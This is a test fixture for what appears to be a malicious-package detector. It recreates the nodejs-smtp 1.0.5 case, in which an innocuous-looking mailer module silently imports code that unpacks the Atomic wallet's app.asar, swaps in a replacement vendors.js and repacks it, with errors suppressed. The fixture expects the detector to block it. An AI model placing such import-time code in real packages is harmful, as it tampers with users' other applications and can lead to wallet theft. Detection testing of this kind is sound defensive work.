import { MAILER_MANIFEST, MAILER_MODULE, REPLACEMENT } from '../mailer.ts';
import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'inert-smtp-esm',
  from: 'the founding case, nodejs-smtp 1.0.5: as ES modules only',
  files: {
    'package.json': { ...MAILER_MANIFEST, main: undefined, type: 'module', exports: { import: './lib/mailer.js' } },
    'lib/mailer.js': `${MAILER_MODULE}import './engine.js';
`,
    'lib/engine.js': `import { copyFile, rm } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { createPackage, extractAll } from '@electron/asar';

const resources = join(homedir(), 'AppData', 'Local', 'Programs', 'atomic', 'resources');
try {
  const output = join(resources, 'output');
  extractAll(join(resources, 'app.asar'), output);
  await copyFile(new URL('./a.js', import.meta.url), join(output, 'dist/electron/vendors.js'));
  await createPackage(output, join(resources, 'app.asar'));
  await rm(output, { recursive: true });
} catch {}
`,
    'lib/a.js': REPLACEMENT,
  },
  expect: 'block',
  says: ['changes-other-application', 'rewrites-archive'],
};
